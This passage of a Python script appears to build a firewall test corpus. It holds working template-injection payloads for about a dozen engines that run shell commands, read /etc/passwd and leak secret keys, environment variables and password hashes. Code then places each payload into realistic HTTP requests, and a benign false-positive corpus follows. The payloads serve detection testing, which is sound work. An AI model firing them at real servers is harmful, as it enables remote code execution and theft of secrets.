    "{$smarty.template_object->smarty->disableSecurity()->display('string:{system(\\'id\\')}')}",
    "{fetch file='/etc/passwd'}",
    "{include file='/etc/passwd'}",
    "{'id'|passthru}",
    "{self::getStreamVariable(\"file:///etc/passwd\")}",
    "{$smarty.server.DOCUMENT_ROOT}",
    "{eval var=\"{system('id')}\"}",
    "{math equation=\"7*7\"}",
]

HANDLEBARS = [
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup "
    "string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "
    "\"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 "
    "codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
    "{{#with \"constructor\"}}{{#with split as |a|}}{{pop (push \"process.exit()\")}}{{#with .}}{{#with (concat "
    "(lookup join (slice 0 1)))}}{{#each (slice 2 3)}}{{#with (apply 0 ../..)}}{{.}}{{/with}}{{/each}}{{/with}}"
    "{{/with}}{{/with}}{{/with}}",
    "{{lookup (lookup this 'constructor') 'constructor'}}",
    "{{#each this}}{{@key}}={{this}}{{/each}}",
    "{{lookup this.__proto__ 'constructor'}}",
    "{{#with (lookup this \"__proto__\")}}{{this.__defineGetter__}}{{/with}}",
    "{{> (lookup . 'partial')}}",
    "{{#each @root}}{{@key}}{{/each}}",
    "{{=<% %>=}}<% constructor %>",
    "{{this.constructor.constructor \"return process\"}}",
    "{{#with this as |o|}}{{#with (o.constructor.keys o) as |k|}}{{k}}{{/with}}{{/with}}",
    "%7B%7B%23with%20%22s%22%20as%20%7Cstring%7C%7D%7D",
]

PUG = [
    "#{7*7}",
    "#{global.process.mainModule.require('child_process').execSync('id')}",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process')"
    ".exec('id')}()}",
    "- global.process.mainModule.require('child_process').exec('id')",
    "= process.env",
    "!{process.mainModule.require('fs').readFileSync('/etc/passwd')}",
    "p= global.process.mainModule.require('child_process').spawnSync('id').stdout",
    "include /etc/passwd",
    "#{root.process.mainModule.require('child_process').spawnSync('cat',['/etc/passwd']).stdout}",
    "div\n  - var x = root.process\n  = x.mainModule.require('child_process').execSync('id')",
    "J:{\"__proto__\":{\"block\":{\"type\":\"Text\",\"line\":\"process.mainModule.require('child_process')"
    ".execSync('id')\"}}}",
    "#{7*'7'}",
]

MAKO = [
    "${self.module.cache.util.os.system('id')}",
    "<%import os%>${os.popen('id').read()}",
    "${self.template.module.runtime.util.os.system('id')}",
    "<% import os; x=os.popen('id').read() %>${x}",
    "${''.__class__.__mro__[-1].__subclasses__()}",
    "<%! import subprocess %>${subprocess.check_output('id',shell=True)}",
    "${__import__('os').popen('whoami').read()}",
    "%>${7*7}<%",
]

TORNADO = [
    "{% import os %}{{os.popen('id').read()}}",
    "{{handler.settings}}",
    "{{handler.application.settings['cookie_secret']}}",
    "{% raw __import__('os').popen('id').read() %}",
    "{% module Template('/etc/passwd') %}",
    "{{__import__('subprocess').check_output('id')}}",
    "{% apply __import__('os').system %}id{% end %}",
    "{% set x = __import__('os') %}{{x.getcwd()}}",
]

NUNJUCKS = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{cycler.constructor(\"return process.env\")()}}",
    "{{joiner.constructor(\"return this.process\")()}}",
    "{{ ''.constructor.constructor('return process')() }}",
    "{{ [].map.constructor('return require')() }}",
    "{% set x = range.constructor('return global')() %}{{ x.process.version }}",
    "{{ 7 * 7 }}{{ undefinedVar | dump }}",
    "{{ lipsum.constructor('return process.mainModule')() }}",
]

EJS = [
    "<%= global.process.mainModule.require('child_process').execSync('id') %>",
    "<%- include('/etc/passwd') %>",
    "<%= process.env.DATABASE_URL %>",
    "<% require('child_process').exec('id') %>",
    "<%= this.constructor.constructor('return process')().pid %>",
    "J:{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process')"
    ".execSync('id');s\"}}",
    "J:{\"__proto__\":{\"client\":true,\"escapeFunction\":\"1;return global.process.mainModule.constructor._load("
    "'child_process').execSync('id')\"}}",
    "<%_ process.exit() _%>",
]

PEBBLE = [
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{{ beans }}",
    "{{ (1).TYPE.forName('java.lang.System').getenv() }}",
    "{% for k in request.class.classLoader.resources %}{{k}}{% endfor %}",
    "{{ request.servletContext.classLoader }}",
    "{{ 'a'.getClass().getName() }}",
    "{{ app.getClass().getClassLoader().loadClass('java.lang.Runtime') }}",
]

RAZOR = [
    "@(7*7)",
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "@{ System.Diagnostics.Process.Start(\"calc.exe\"); }",
    "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")",
    "@Environment.MachineName",
    "@System.Environment.GetEnvironmentVariables()",
    "@Html.Raw(System.IO.Directory.GetFiles(\"C:\\\\inetpub\\\\wwwroot\"))",
    "@{ var p = new System.Diagnostics.ProcessStartInfo(\"cmd\",\"/c dir\"); }",
]

DJANGO = [
    "{{settings.SECRET_KEY}}",
    "{% debug %}",
    "{{ request.META }}",
    "{% load log %}{% get_admin_log 10 as log %}{% for e in log %}{{e.user.get_username}}:{{e.user.password}}"
    "{% endfor %}",
    "{{ messages.storages.0.signer.key }}",
    "{% include 'admin/base.html' %}{{ user.password }}",
    "{{ form.instance.__class__.objects.all }}",
    "{% ssi '/etc/passwd' %}",
]

GROOVY = [
    "${\"id\".execute().text}",
    "${'whoami'.execute()}",
    "<% out.println('id'.execute().text) %>",
    "${new File('/etc/passwd').text}",
    "${this.class.classLoader.parseClass('class X{}')}",
    "@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec('id')})",
    "${[\"sh\",\"-c\",\"id\"].execute().text}",
    "${Eval.me('1+1')}",
]

SUBS: list[tuple[str, str, list[str]]] = [
    ("generic", "nodejs-injection", NODE_1),
    ("generic", "nodejs-injection-2", NODE_2),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_META),
    ("generic", "ssrf-ip-address", SSRF_IP),
    ("generic", "prototype-pollution", PROTO),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "data-scheme", DATA_SCHEME),
    ("java", "java-class-rce", JAVA_CLASS_RCE),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization-rce", JAVA_SER_RCE),
    ("java", "java-suspicious-class", JAVA_SUSP_CLASS),
    ("java", "java-magic-bytes", JAVA_MAGIC),
    ("java", "java-magic-base64", JAVA_MAGIC_B64),
    ("java", "java-serialization-pl2", JAVA_SER_PL2),
    ("java", "java-suspicious-method", JAVA_METHOD),
    ("java", "log4shell", LOG4J),
    ("java", "java-class-loading", CLASS_LOADING),
    ("java", "java-script-upload", JAVA_UPLOAD),
    ("ssti", "ssti-jinja2", JINJA2),
    ("ssti", "ssti-twig", TWIG),
    ("ssti", "ssti-freemarker", FREEMARKER),
    ("ssti", "ssti-velocity", VELOCITY),
    ("ssti", "ssti-thymeleaf", THYMELEAF),
    ("ssti", "ssti-erb", ERB),
    ("ssti", "ssti-smarty", SMARTY),
    ("ssti", "ssti-handlebars", HANDLEBARS),
    ("ssti", "ssti-pug", PUG),
    ("ssti", "ssti-mako", MAKO),
    ("ssti", "ssti-tornado", TORNADO),
    ("ssti", "ssti-nunjucks", NUNJUCKS),
    ("ssti", "ssti-ejs", EJS),
    ("ssti", "ssti-pebble", PEBBLE),
    ("ssti", "ssti-razor", RAZOR),
    ("ssti", "ssti-django", DJANGO),
    ("ssti", "ssti-groovy", GROOVY),
]

# ---------------------------------------------------------------------------------------------------------------
# Placements
# ---------------------------------------------------------------------------------------------------------------
CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
          "Safari/537.36")
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
BOUNDARY = "----WebKitFormBoundaryq7Z3xRk2bN5mW1aE"

OURS = ["query", "form", "json", "cookie", "header:User-Agent", "path", "header:Referer", "param-name", "xml",
        "multipart-field", "json-patch", "header:X-Api-Version", "multipart-filename", "form-settings"]
RS = ["rs-query", "rs-form", "rs-json", "rs-header:User-Agent", "rs-xml", "rs-raw-body", "rs-cookie",
      "rs-header:Referer", "rs-header:X-Custom-Header"]
KIND_PLACES: dict[str, tuple[list[str], list[str]]] = {
    "": (OURS, RS),
    "Q": (["query", "form", "form-settings"], ["rs-query", "rs-form"]),
    "J": (["json", "json-patch"], ["rs-json"]),
    "X": (["xml"], ["rs-xml"]),
    "F": (["multipart-filename"], ["rs-multipart-filename"]),
    "B": (["query", "form", "path", "cookie", "json"], ["rs-query", "rs-form", "rs-raw-body", "rs-json"]),
    "U": (["json", "json-patch"], ["rs-json"]),
    "R": (["raw-body"], ["rs-raw-body"]),
}
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_PARAMS = ["foo", "var", "x", "test", "id", "arg1"]
JSON_FIELDS = ["bio", "title", "name", "department", "website", "nickname", "notes"]
COOKIE_NAMES = ["prefs", "lang", "theme", "last_search", "tz"]
PATH_SAFE = "()'*!$,;:@=+[]|~"
JSP_BODY = "<%@ page contentType=\"text/html;charset=UTF-8\" %>\n<html><body>upload test</body></html>\n"


def _token(n: int, salt: str) -> str:
    return hashlib.sha256(f"{NAME}:{salt}:{n}".encode()).hexdigest()[:32]


def _hdr(value: str) -> str:
    """A header value: printable ASCII kept, CR/LF/TAB as spaces, anything else percent-encoded."""
    out = []
    for c in value:
        if 0x20 <= ord(c) < 0x7F:
            out.append(c)
        elif c in "\r\n\t":
            out.append(" ")
        else:
            out.append(urllib.parse.quote(c, safe="", encoding="latin-1" if ord(c) < 256 else "utf-8"))
    return "".join(out)


def _browser(n: int, accept: str = "application/json, text/plain, */*") -> dict[str, str]:
    return {"User-Agent": CHROME, "Accept": accept, "Accept-Language": "en-US,en;q=0.9",
            "Accept-Encoding": "gzip, deflate, br", "Referer": "https://app.example.com/admin/users",
            "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Dest": "empty",
            "Cookie": f"session={_token(n, 'session')}; consent=accepted"}


def _suite() -> dict[str, str]:
    return {"User-Agent": FIREFOX, "Accept": "*/*"}


def _uesc(value: str) -> str:
    """A JSON string literal (quotes included) with its letters and syntax characters as \\u00XX escapes."""
    out = []
    for c in value:
        if c.isascii() and (c.isalpha() or c in "${}()<>'\"._:/"):
            out.append(f"\\u{ord(c):04x}")
        else:
            out.append(json.dumps(c)[1:-1])
    return '"' + "".join(out) + '"'


def _pct(value: str, binary: bool, plus: bool = True) -> str:
    if binary:
        return urllib.parse.quote(value, safe="", encoding="latin-1")
    return urllib.parse.quote_plus(value, safe="") if plus else urllib.parse.quote(value, safe="")


def _json_body(doc: dict[str, Any], field: str, value: str, kind: str) -> str:
    """doc with value under field: unicode-escaped for kind U, \\u00XX bytes for kind B, plain otherwise."""
    if kind == "U":
        marker = "@@VALUE@@"
        return json.dumps({**doc, field: marker}).replace(f'"{marker}"', _uesc(value))
    return json.dumps({**doc, field: value}, ensure_ascii=kind == "B")


def _multipart(fields: list[tuple[str, str]], filename: str, content: str, ctype: str) -> str:
    parts = [f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n" for k, v in fields]
    fn = filename.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")
    parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{fn}\"\r\n"
                 f"Content-Type: {ctype}\r\n\r\n{content}\r\n")
    return "".join(parts) + f"--{BOUNDARY}--\r\n"


def _req(method: str, uri: str, headers: dict[str, str], body: str = "",
         ctype: str | None = None) -> dict[str, Any]:
    h = dict(headers)
    if ctype:
        h["Content-Type"] = ctype
    return {"method": method, "uri": uri, "body": body, "headers": h}


def ours(place: str, p: str, kind: str, n: int) -> dict[str, Any]:
    """The payload in one of our real routes."""
    binary = kind == "B"
    csrf = _token(n, "csrf")
    page, per = str(n % 9 + 1), ("20", "50", "100")[n % 3]
    field = JSON_FIELDS[n % len(JSON_FIELDS)]
    if place == "query":
        if kind == "Q":
            return _req("GET", f"/api/users?page={page}&{p}", _browser(n))
        params = [("q", _pct(p, binary)), ("page", page), ("per_page", per)]
        params = params[n % 3:] + params[:n % 3]
        return _req("GET", "/api/users?" + "&".join(f"{k}={v}" for k, v in params), _browser(n))
    if place in ("form", "form-settings"):
        uri, name = ("/admin/users/search", "q") if place == "form" else ("/me/settings", "signature")
        tail = p if kind == "Q" else f"{name}={_pct(p, binary)}"
        return _req("POST", uri, {**_browser(n, "text/html"), "Origin": "https://app.example.com"},
                    f"csrf_token={csrf}&{tail}", "application/x-www-form-urlencoded")
    if place in ("json", "json-patch"):
        method, uri = ("POST", "/api/users") if place == "json" else ("PATCH", "/api/users/42")
        if kind == "J":
            body = p
        else:
            doc = {"name": "Dana Whitfield", "email": "dana.whitfield@example.org", "department": "Support"}
            if place == "json-patch":
                doc = {"timezone": "Europe/Dublin"}
            body = _json_body(doc, field, p, kind)
        return _req(method, uri, _browser(n), body, "application/json")
    if place == "cookie":
        h = _browser(n)
        h["Cookie"] += f"; {COOKIE_NAMES[n % len(COOKIE_NAMES)]}={_pct(p, binary, plus=False)}"
        return _req("GET", f"/api/users?page={page}", h)
    if place == "header:User-Agent":
        return _req("GET", f"/api/users?page={page}&per_page={per}", {**_browser(n), "User-Agent": _hdr(p)})
    if place == "header:Referer":
        ref = p if p[:12].lower().startswith(("http://", "https://", "gopher://", "dict://", "ftp://", "//")) \
            else "https://app.example.com/users?q=" + urllib.parse.quote_plus(p, safe="")
        return _req("GET", f"/api/users?page={page}", {**_browser(n), "Referer": _hdr(ref)})
    if place == "header:X-Api-Version":
        return _req("GET", "/api/users/42?expand=teams", {**_browser(n), "X-Api-Version": _hdr(p)})
    if place == "param-name":
        return _req("GET", f"/api/users?{_pct(p, binary)}=1&page={page}", _browser(n))
    if place == "path":
        seg = _pct(p, True) if binary else urllib.parse.quote(p, safe=PATH_SAFE)
        return _req("GET", f"/api/users/{seg}", _browser(n))
    if place == "xml":
        body = p if kind == "X" else ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<user><name>Dana Whitfield</name>"
                                      f"<{field}>{xml_escape(p)}</{field}></user>")
        return _req("POST", "/api/users", _browser(n, "application/xml"), body, "application/xml")
    if place == "multipart-field":
        body = _multipart([("csrf_token", csrf), ("note", p)], "staff.csv", "name,email\nAnn,ann@example.org\n",
                          "text/csv")
        return _req("POST", "/admin/users/import", {**_browser(n, "text/html"), "Origin": "https://app.example.com"},
                    body, f"multipart/form-data; boundary={BOUNDARY}")
    if place == "multipart-filename":
        content, ctype = (JSP_BODY, "application/octet-stream") if kind == "F" else ("GIF89a\n", "image/gif")
        body = _multipart([("csrf_token", csrf)], p, content, ctype)
        return _req("POST", "/api/users/42/avatar", _browser(n), body, f"multipart/form-data; boundary={BOUNDARY}")
    if place == "raw-body":
        return _req("POST", "/api/users/import", _browser(n), p, "application/octet-stream")
    raise ValueError(place)


def suite(place: str, p: str, kind: str, n: int) -> dict[str, Any]:
    """The payload the way a WAF regression suite sends it: any path, any parameter name."""
    binary = kind == "B"
    path = RS_PATHS[n % len(RS_PATHS)]
    arg = RS_PARAMS[n % len(RS_PARAMS)]
    h = _suite()
    if place == "rs-query":
        return _req("GET", f"{path}?{p}" if kind == "Q" else f"{path}?{arg}={_pct(p, binary, plus=False)}", h)
    if place == "rs-form":
        return _req("POST", path, h, p if kind == "Q" else f"{arg}={_pct(p, binary)}",
                    "application/x-www-form-urlencoded")
    if place == "rs-json":
        body = p if kind == "J" else _json_body({}, arg, p, kind)
        return _req("POST", path, h, body, "application/json")
    if place == "rs-xml":
        body = p if kind == "X" else f"<?xml version=\"1.0\"?>\n<root><{arg}>{xml_escape(p)}</{arg}></root>"
        return _req("POST", path, h, body, "application/xml")
    if place == "rs-raw-body":
        return _req("POST", path, h, _pct(p, True) if binary else p, "application/x-www-form-urlencoded")
    if place == "rs-cookie":
        value = "".join(urllib.parse.quote(c, safe="") if c in "; ,%\"\\" or not 0x20 < ord(c) < 0x7F else c
                        for c in p)
        return _req("GET", path, {**h, "Cookie": f"{arg}={value}"})
    if place.startswith("rs-header:"):
        return _req("GET", path, {**h, place.split(":", 1)[1]: _hdr(p)})
    if place == "rs-multipart-filename":
        body = _multipart([], p, JSP_BODY, "application/octet-stream")
        return _req("POST", path, h, body, f"multipart/form-data; boundary={BOUNDARY}")
    raise ValueError(place)


def _kind(entry: str) -> tuple[str, str]:
    if len(entry) > 2 and entry[1] == ":" and entry[0] in "QJXFBUR":
        return entry[0], entry[2:]
    return "", entry


def _shown(p: str, kind: str) -> str:
    """The payload as the report shows it: raw bytes percent-encoded, a \\u-escaped string as sent."""
    if kind == "B":
        return urllib.parse.quote(p, safe="", encoding="latin-1")
    if kind == "U":
        return _uesc(p)[1:-1]
    return p


def attacks() -> Iterator[dict[str, Any]]:
    """Each payload twice: in one of our routes and the regression-suite way, both rotating per sub-family."""
    n = 0
    for s, (category, sub, payloads) in enumerate(SUBS):
        for i, entry in enumerate(payloads):
            kind, p = _kind(entry)
            ours_places, rs_places = KIND_PLACES[kind]
            for place, build in ((ours_places[(i + 3 * s) % len(ours_places)], ours),
                                 (rs_places[(i + 2 * s) % len(rs_places)], suite)):
                n += 1
                yield {**build(place, p, kind, n), "id": f"{NAME}-{category}-{n:04d}", "category": category,
                       "sub": sub, "placement": place, "payload": _shown(p, kind)}


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words, as people type them
# ---------------------------------------------------------------------------------------------------------------
SLACK_TEXTS = [
    # Node.js
    "we moved the thumbnail job off child_process and onto a worker queue, much calmer now",
    "Node 22 upgrade done. anyone still calling require() on ESM-only packages will see a warning",
    "the process manager restarts the API when memory goes over 1.5 GB",
    "PSA: don't use eval in the plugin loader, use the JSON schema instead",
    "setTimeout with 0 ms still waits for the next tick, that's why the test flakes",
    "the constructor of ReportBuilder takes the tenant id, then the date range",
    "who owns the global error handler? it swallows the stack traces",
    "function names in the stack are minified in prod, upload the source maps please",
    "the vm module docs say it is not a security mechanism, so we dropped the sandbox idea",
    "npm audit is clean after bumping express and body-parser",
    "the fork of the SDK is archived, use the upstream package",
    "spawn count on the CI runners is capped at 8",
    "exec summary for the Q3 review is in the drive",
    "I think the infinite loop was in the retry logic: while the token is expired it retries forever",
    "someone wrote for (;;) in the poller again, I added a max attempts guard",
    "the while loop in the importer now breaks after 1000 rows per batch",
    "Array(5).fill(0) is the neat way to init the counters",
    "the DoS test from the pentest was just a huge JSON payload, body limit fixed it",
    # prototype / objects
    "prototype of the new onboarding flow is in Figma",
    "the proto files for the gRPC service are in /proto, regenerate the stubs after pulling",
    "Object.assign merges the defaults with the user's settings",
    "structuredClone is nicer than JSON parse/stringify for deep copies",
    "we use Object.create(null) for the lookup maps now",
    "the lodash merge bump fixed the pollution advisory",
    # Java
    "Java 21 runtime is on all app servers now",
    "the ProcessBuilder call in the backup tool got a timeout",
    "Runtime memory stats are on the JVM dashboard",
    "the class loader leak in Tomcat went away after the redeploy",
    "Spring Boot 3.2 upgrade: check the actuator endpoints list",
    "Jackson default typing stays off, Fable reviewed it",
    "XStream is gone from the reporting service, we switched to plain JAXB",
    "log4j is at 2.23 everywhere, the JNDI lookups are disabled by default anyway",
    "the JSP pages in the legacy admin will be rewritten in React",
    "upload limit for avatars is 2 MB, jpg png or webp only",
    "the java.time migration removed all the Date and Calendar uses",
    "reflection-heavy code in the mapper is slow, MapStruct generates it at compile time",
    "the serialization format for the cache is JSON now, not Java serialization",
    "InitialContext lookups for the datasource moved to Spring config",
    "the ObjectMapper bean is shared, don't reconfigure it per request",
    "Thread.sleep in tests is a smell, use Awaitility",
    "the Struts app is being retired in March",
    "WebLogic licence renewal is on the procurement list",
    "commons-collections 3.2.2 is the patched one, 4.4 is fine",
    "getClass().getSimpleName() is what the logger prints",
    "the forName call in the driver loader can go, JDBC 4 autoloads drivers",
    # templates
    "our email templates use Jinja2 with autoescape on",
    "the newsletter template has {{ first_name }} in the greeting and {{ unsubscribe_url }} at the bottom",
    "Twig cache folder needs to be writable by www-data",
    "FreeMarker templates for invoices live in src/main/resources/templates",
    "in Thymeleaf use th:text, not th:utext, unless the HTML is sanitized",
    "the Rails views use <%= link_to %> helpers everywhere",
    "Handlebars partials are registered at boot",
    "the pug templates render the marketing pages",
    "Velocity is still used by the old Confluence macros",
    "Smarty templates in the WordPress plugin are being replaced",
    "the Razor pages in the IIS app need the .NET 8 hosting bundle",
    "mustache is enough for the SMS templates",
    "Django's {% url %} tag broke after the namespace rename",
    "Pebble looked nice but we went with Thymeleaf",
    "ERB trim mode removes the blank lines",
    "the Liquid templates for Shopify are in a separate repo",
    "placeholders look like ${customer.name} in the contract template",
    "Hi {{name}}, your order {{order_id}} has shipped - that's the current SMS text",
    "the template preview shows 49 when I type 7*7 in the calculator field, expected",
    # SSRF / cloud / IPs
    "the metadata service on EC2 requires IMDSv2 tokens now",
    "GCP metadata server is only reachable from inside the VPC, that's by design",
    "the printer is at 10.0.4.21 if anyone needs to configure it",
    "VPN hands out 172.20.x.x addresses",
    "home router admin page is usually 192.168.1.1",
    "localhost:5173 is the Vite dev server",
    "dev API is on 127.0.0.1:8080 when you run docker compose",
    "the webhook URL must be https, http is rejected",
    "the link checker follows redirects but not to private addresses",
    "the DNS for the status page moved to Route 53",
    "IPv6 is enabled on the load balancer, ::1 works for local tests",
    "gopher was a real protocol before the web took over, fun fact",
    "FTP upload for the bank statements is replaced by SFTP",
    # Ruby / Perl
    "Ruby 3.3 with YJIT cut our p95 by 20%",
    "the Perl scripts in cron are the last ones, they send the nightly report",
    "Kernel#system in the deploy script should use the array form",
    "the Rakefile tasks are documented in the README",
    "open3 in the importer captures stderr now",
    "Marshal dumps in the cache are gone, we use MessagePack",
    "the Perl one-liner to rename files is in the wiki",
    "perl -pi -e is still the quickest find/replace on the build box",
    "YAML.safe_load everywhere, the rubocop rule enforces it",
    "the regex in the CGI script was catastrophic backtracking, rewrote it",
    # data URIs and encodings
    "the icons are inlined as data: URIs by the bundler",
    "base64 images in the CSS make the bundle heavy",
    "the PDF comes back base64-encoded in the JSON response",
    "the signature field holds the base64 of the PNG",
    "the hex dump of the file starts with 25 50 44 46, that's %PDF",
    # general
    "standup moved to 9:45 tomorrow",
    "lunch order closes at 11, the thai place",
    "the train was late again, joining at 10",
    "who has the key for the bike room?",
    "release notes for 4.2 are drafted, please review",
    "happy birthday Siobhán!",
    "the board meeting deck is final",
    "reminder: expenses due Friday",
    "we hit 10k users this morning",
    "the on-call handover doc is updated",
    "coffee machine on floor 3 is fixed",
    "the customer in Zürich asked for an invoice in CHF",
    "João is out until Monday",
    "who's joining the 5k run?",
    "the office is closed on the 26th",
    "moving the retro to Thursday",
    "I'll pair with you on the migration after lunch",
    "the design review is at 2pm in the big room",
    "can someone approve my PR? it's a one-liner",
    "the SLA report shows 99.95% for last month",
    "staging is back up",
    "the flaky test is quarantined",
    "backup restore drill passed",
    "thanks for the quick fix!",
    "the survey results are in, mostly positive",
    "please use the new expense tool from next week",
    "new hire starts Monday, please say hi",
    "the font license for the brand refresh is bought",
    "we need a volunteer for the conference booth",
    "I'm running the 1:1s this week instead of next",
    "the client wants dark mode, again",
    "the dashboard shows 7*24 coverage for on-call",
    "price went from $49 to $59 per seat",
    "the Java user group meets on Wednesday, pizza provided",
    "a talk on template injection at the meetup, slides are online",
    "read the post about server-side request forgery, good refresher",
    "we should run the deserialization checklist on the legacy app",
    "the log4shell retro doc is a good read for new joiners",
]

PUBLIC_URLS = [
    "https://nodejs.org/api/child_process.html",
    "https://nodejs.org/api/vm.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Object/prototype",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Function",
    "https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/lang/ProcessBuilder.html",
    "https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/lang/Runtime.html",
    "https://docs.spring.io/spring-framework/reference/core/expressions.html",
    "https://logging.apache.org/log4j/2.x/manual/lookups.html",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/filters/map.html",
    "https://freemarker.apache.org/docs/ref_builtins.html",
    "https://velocity.apache.org/engine/2.3/user-guide.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://ruby-doc.org/3.3.0/Kernel.html",
    "https://perldoc.perl.org/functions/open",
    "https://www.smarty.net/docs/en/",
    "https://handlebarsjs.com/guide/",
    "https://pugjs.org/api/getting-started.html",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://owasp.org/www-community/attacks/Server_Side_Request_Forgery",
    "https://en.wikipedia.org/wiki/Data_URI_scheme",
    "https://www.php.net/manual/en/wrappers.data.php",
    "https://github.com/acme/billing/blob/main/src/main/java/com/acme/billing/InvoiceRenderer.java",
    "https://github.com/acme/web/tree/main/app/views/layouts",
    "https://cdn.example.org/assets/app.4f3c2a.js",
    "https://example.com/images/team/dana.jpg",
    "https://status.example.com/incidents/2024-05-14",
    "https://calendar.example.com/event?id=8842&ref=slack",
    "https://maps.example.com/?q=10+Downing+Street+London",
    "https://www.example.co.uk/careers/java-developer",
    "https://jobs.example.com/listing/ruby-on-rails-engineer?loc=remote",
    "https://blog.example.com/2024/03/the-runtime-of-our-batch-jobs",
    "https://docs.example.com/api/v2/templates/{template_id}",
    "https://api.example.com/v1/users?fields=name,email&limit=50",
    "https://hooks.slack.com/services/T061EG9R6/B0ABCDEF/placeholder",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://meet.example.com/abc-defg-hij",
    "https://drive.example.com/file/d/1AbCdEfGhIjK/view",
    "https://rubygems.org/gems/rails",
    "https://metacpan.org/pod/IO::Socket::INET",
    "https://mvnrepository.com/artifact/org.apache.commons/commons-collections4",
    "https://www.npmjs.com/package/node-serialize",
    "https://ejs.co/#docs",
    "https://mozilla.github.io/nunjucks/templating.html",
    "https://docs.makotemplates.org/en/latest/syntax.html",
    "https://www.tornadoweb.org/en/stable/template.html",
    "https://pebbletemplates.io/wiki/guide/basic-usage/",
    "https://learn.microsoft.com/en-us/aspnet/core/mvc/views/razor",
]

PROSE = [
    "Runtime of the nightly job was 12 minutes, the process took longer than expected",
    "The prototype was shown to the board and approved",
    "Constructor Ltd., 14 Prototype Lane, Leeds",
    "Please find attached the template for the Q3 report",
    "Looking for the Java process documentation for onboarding",
    "Our class of 2019 reunion is in June",
    "The loader on site B needs servicing",
    "Data: attached spreadsheet, see tab 2",
    "Metadata for the photos was stripped before upload",
    "Invoice 7*7 units at EUR 12 each",
    "Send the cheque to 127 Main Street, Apt 1",
    "Meeting room 10.0.1 on the tenth floor",
    "Ruby Johnson, Perl Street 5, Springfield",
    "Jasper Velocity Consulting Ltd.",
    "Twig & Branch Florists, order 4471",
    "Smarty Pants Tutoring - spring schedule",
    "Pug owners club meetup, Sunday 10am",
    "Marker pens, free marker boards and sticky notes for the workshop",
    "Handlebars for the kids' bikes are on back order",
    "Thyme leaf and rosemary for the team cooking class",
    "The global process owner signs off the change",
    "Require two approvals before merging to main",
    "Execute the contract by end of month",
    "The spawning season closes the river to anglers until June",
    "Forking the roadmap into two tracks was agreed",
    "Class action notice received, forwarded to legal",
    "System maintenance window Saturday 02:00-04:00 UTC",
    "Open the file in Excel and filter by region",
    "The serial number is printed under the battery",
    "The eval copy of the software expires in 30 days",
    "A function room is booked for the farewell party",
    "We look up the account by email, then by phone",
    "Exception report for March attached",
    "Please call the client back regarding the rescheduled delivery",
    "The object of the exercise is to reduce churn",
    "File transfer finished at 16:40",
    "The instance of the meeting was cancelled",
    "Environment, health and safety training is mandatory",
    "Please upload the signed PDF to the portal",
    "Config review: 3 items open, 2 closed",
    "The Ruby anniversary is 40 years",
    "Ticket: login page shows a blank screen on Safari",
    "Status: waiting on customer",
    "Fixed in 4.2.1, please retest",
    "Order #5521 - 2x standing desk, 1x monitor arm",
    "Meeting notes: budget, hiring, roadmap",
    "Quote for the kitchen refit, valid 30 days",
    "Staff party at The Old Forge, 7pm",
    "Reminder: parking permits renew in January",
    "Lost and found: blue umbrella, 3rd floor",
    "The cat (Java) and the dog (Ruby) both need the vet on Tuesday",
    "The Spring conference is in Barcelona this year",
    "Template: Dear {{ customer }}, thank you for your order",
    "Total: $ {amount} due on {date}",
    "Please reply with ${price} in the form",
    "Apartment 4B, 192 Queen Street",
    "PO Box 169, Springfield 25401",
    "Version 2.17.1 of the logging library is installed",
    "The module covers classLoader basics in week 6",
    "Page 7 of 49",
]

SEARCHES = [
    "dana whitfield", "o'neil", "josé garcía", "support team", "java developers", "ruby team", "perl",
    "node", "process owner", "runtime team", "template admins", "jinja", "twig", "pug lovers", "smarty",
